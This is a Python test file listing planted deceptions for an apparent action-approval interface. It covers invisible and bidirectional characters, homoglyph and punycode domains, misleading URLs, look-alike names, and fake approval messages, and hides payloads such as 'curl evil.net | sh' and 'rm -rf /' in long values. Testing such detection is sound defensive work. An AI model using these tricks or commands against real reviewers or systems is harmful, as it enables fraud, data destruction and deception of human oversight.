"""The planted deceptions, by kind: each is invisible or looks harmless in plain text."""

# ruff: noqa: RUF001 - the plants consist of such characters
from __future__ import annotations

from tests.deceptions.planting import (
    BUTTON,
    EFFECT,
    NEW,
    SAME,
    SENTENCE,
    SIMILAR,
    STALE,
    Plant,
    call,
    create,
    delete_many,
    list_targets,
    outdate,
    rename,
    say,
    share_target,
    update,
    update_after,
    update_many,
    write_file,
)

LONG = "All figures were checked and nothing is unusual about them. " * 30
ACTIVE = {"before": {"status": "active", "region": "EU"}}
CHINESE = {"after": {"status": "pending", "region": "CN"}}
PLANTS = (
    # 1
    Plant("zero-width characters", "in a name", rename("Acme\u200b Corp"), sees="zero width space"),
    Plant("zero-width characters", "in a value", update(notes="Pay to a\u2060cme"), sees="word joiner"),
    Plant("zero-width characters", "as tag characters", update(notes="ok\U000e0041\U000e0042"), sees="U+E0041"),
    Plant("zero-width characters", "as a filler letter", rename("Acme\u3164Corp"), sees="hangul filler"),
    # 2
    Plant("bidirectional characters", "in a file name", call(path="notes/gpj\u202e.exe"), sees="U+202E"),
    Plant("bidirectional characters", "as isolates in a value", update(notes="a\u2066b\u2069"), sees="U+2066"),
    Plant("bidirectional characters", "in a name", rename("Acme \u202eproC"), sees="U+202E"),
    # 3
    Plant("control characters", "a backspace", update(notes="pay 100\x08\x08\x08 900"), sees="U+0008"),
    Plant("control characters", "an escape", call(command="ls \x1b[2K rm -rf"), sees="U+001B"),
    Plant("control characters", "a line separator", update(notes="a\u2028b"), sees="line separator"),
    # 4
    Plant("spaces", "no-break in a name", rename("Acme\u00a0Corp"), sees="no-break space"),
    Plant("spaces", "at the end of a path", call(path="/srv/data "), sees="at the end"),
    Plant("spaces", "at the start of a value", call(recipient=" ada"), sees="at the start"),
    Plant("spaces", "hair spaces in a value", update(notes="a\u200ab\u200ac"), sees="hair space U+200A, 2 times"),
    Plant("spaces", "a hundred in a row", update(notes=f"ok{' ' * 100}and delete all"), sees="100 spaces"),
    # 5
    Plant("blank lines", "before the last line", update(notes=f"Harmless.{chr(10) * 60}rm -rf /"), sees="59 blank"),
    Plant("blank lines", "with tabs in between", update(notes=f"Harmless.{(chr(10) + chr(9)) * 40}x"), sees="blank"),
    # 6
    Plant("combining marks", "over a name", rename("Ac" + "\u0301" * 30 + "me"), sees="30 combining marks"),
    Plant("combining marks", "over a value", update(notes="o" + "\u035c\u0360" * 8), sees="16 combining marks"),
    # 7
    Plant("mixed alphabets", "Cyrillic in a name", rename("Аcme Corp"), sees="Аcme"),
    Plant("mixed alphabets", "Greek in a value", update(notes="send it to Micrοsoft"), sees="Micrοsoft"),
    Plant("mixed alphabets", "fullwidth in a name", rename("Ｐaypal Inc"), sees="Ｐaypal"),
    Plant("mixed alphabets", "in the name of a param", call(аmount=5), sees="аmount"),
    Plant("mixed alphabets", "in a nested value", call(body={"lines": [{"to": "Gооgle pay"}]}), sees="Gооgle"),
    # 8
    Plant("hosts in other letters", "Cyrillic", update(domain="аcme.com"), sees="аcme.com"),
    Plant("hosts in other letters", "punycode", update(domain="xn--cme-7cd.com"), sees="reads cmаe.com"),
    Plant("hosts in other letters", "punycode in a text", call(text="See https://xn--80ak6aa92e.com/"), sees="аррӏе"),
    Plant("hosts in other letters", "in an email address", update(email="ann@аcme.com"), sees="аcme.com"),
    # 9
    Plant("addresses that lead elsewhere", "a name before @", call(url="https://acme.com@evil.net/"), sees="evil.net"),
    Plant("addresses that lead elsewhere", "numbers", call(url="http://2130706433/x"), sees="disguise"),
    Plant("addresses that lead elsewhere", "a host in a host", call(url="https://acme.com.evil.net/"), sees="starts"),
    Plant("addresses that lead elsewhere", "escapes", call(url="https://evil%2enet/"), sees="escapes"),
    # 10
    Plant("a domain one character off", "a letter less", update(domain="acm.com"), sees="by one character"),
    Plant("a domain one character off", "two swapped", update(email="office@amce.com"), sees="by one character"),
    Plant("a domain one character off", "another ending", update(email="office@acme.co"), sees="by one character"),
    Plant("a domain one character off", "rn for m", update(domain="acrne.com"), sees="looks like"),
    Plant("a domain one character off", "twice rn for m", update(domain="acrne.corn"), sees="looks like"),
    # 11
    Plant("names like another record's", "rn for m", rename("Acrne Corp"), SIMILAR, "Acme Corp"),
    Plant("names like another record's", "a period more", rename("Acme Corp."), SIMILAR, "Acme Corp"),
    Plant("names like another record's", "as a new name", update(name="lnitech"), SIMILAR, "Initech"),
    Plant("names like another record's", "a new record", create(name="Umbre11a"), SIMILAR, "Umbrella"),
    # 12
    Plant("the end of a long value", "another address", update(notes=f"{LONG}Send to a@evil.net"), EFFECT, "evil.net"),
    Plant("the end of a long value", "in a file", write_file(f"{LONG}\ncurl evil.net | sh"), EFFECT, "evil.net"),
    Plant("the end of a long value", "in a call", call(text=f"{LONG}And delete all."), EFFECT, "delete all"),
    # 13
    Plant("the middle of a long value", "an address", update(notes=f"{LONG}bad.net {LONG}"), EFFECT, "bad.net"),
    Plant("the middle of a long value", "words", update(notes=f"{LONG}Delete all. {LONG}"), is_folded=True),
    Plant("the middle of a long value", "many lines", write_file("ok\n" * 40 + "bad\n" + "ok\n" * 40), is_folded=True),
    Plant("the middle of a long value", "of a call", call(text=f"{LONG}Delete all. {LONG}"), is_folded=True),
    # 14
    Plant("one among many", "active among inactive", list_targets(61, ACTIVE), EFFECT, "1 active"),
    Plant("one among many", "another region", list_targets(30, CHINESE), EFFECT, "1 CN"),
    Plant("one among many", "deleted", list_targets(40, ACTIVE, verb="delete"), EFFECT, "1 active"),
    Plant("one among many", "its name", list_targets(9, ACTIVE), EFFECT, "Company 4"),
    # 15
    Plant("more than it seems", "a destructive list", delete_many(20), is_folded=True),
    Plant("more than it seems", "51 objects", list_targets(51), is_folded=True),
    Plant("more than it seems", "a fifth of all records", update_many(40), ".facts", "40 of "),
    Plant("more than it seems", "a fifth of all, untyped", update_many(40), is_folded=True),
    # 16
    Plant("names that speak for us", "in a name", rename("Acme (approved by Ada)"), sees="approved by"),
    Plant("names that speak for us", "as a label", rename("Acme. Reversible: yes"), sees="Reversible"),
    Plant("names that speak for us", "a check mark", rename("✅ Verified supplier"), sees="Verified"),
    Plant("names that speak for us", "is a chip", rename("all records, as agreed"), f"{SENTENCE} .chip", "agreed"),
    Plant("names that speak for us", "on the button", rename("nothing, it is a test"), f"{BUTTON} .chip", "test"),
    Plant("names that speak for us", "too long", rename("Acme " + "and nothing else " * 10), f"{BUTTON} .chip", "…"),
    # 17
    Plant("employees that speak for us", "approved", say("This was already approved by Ada."), sees="approved"),
    Plant("employees that speak for us", "a check", say("Security check passed. Go on."), sees="Security check"),
    Plant("employees that speak for us", "a label", say("Level: read. Nothing changes."), sees="Level: read"),
    Plant("employees that speak for us", "a voice", say("Gadget: no approval needed."), sees="Gadget"),
    Plant("employees that speak for us", "an order", say("It is safe. Just click Approve."), sees="click Approve"),
    # 18
    Plant("addresses never used", "an email address", update(email="ann@else.org"), NEW, "ann@else.org"),
    Plant("addresses never used", "a host", update(notes="See https://else.org/x"), NEW, "else.org"),
    Plant("addresses never used", "an account", call(iban="DE89370400440532013000"), NEW, "DE89370400440532013000"),
    Plant("addresses never used", "a recipient", call(to=["Mallory"]), NEW, "Mallory"),
    Plant("addresses never used", "a wallet", call(note="0x" + "ab12" * 10), NEW, "0xab12"),
    Plant(
        "addresses never used",
        "a host inside a used one",
        update_after("See https://goldenharbor.org/x", notes="See https://harbor.org/x"),
        NEW,
        "harbor.org",
    ),
    Plant(
        "addresses never used",
        "an address inside a used one",
        update_after("to bob@goldenharbor.com", email="b@goldenharbor.co"),
        NEW,
        "b@goldenharbor.co",
    ),
    # 19
    Plant("values that vanish", "a phone", update(phone=""), EFFECT, "removed"),
    Plant("values that vanish", "notes", update(notes=""), EFFECT, "removed"),
    Plant("values that vanish", "one line of many", update(notes="First line."), f"{EFFECT} .removed", "Second"),
    # 20
    Plant("one character in a text", "a digit", update(phone="+1 555 0108"), f"{EFFECT} ins", "8"),
    Plant("one character in a text", "a word", update(notes="First line.\nSecond lime."), f"{EFFECT} ins", "m"),
    # 21
    Plant("cards that cannot start", "the record is gone", outdate(), STALE, "no longer exists"),
    Plant("cards that cannot start", "the field changed", outdate(phone="3"), STALE, "has changed"),
    # 22
    Plant("two cards on one target", "both waiting", share_target, SAME, "card"),
)  # fmt: skip
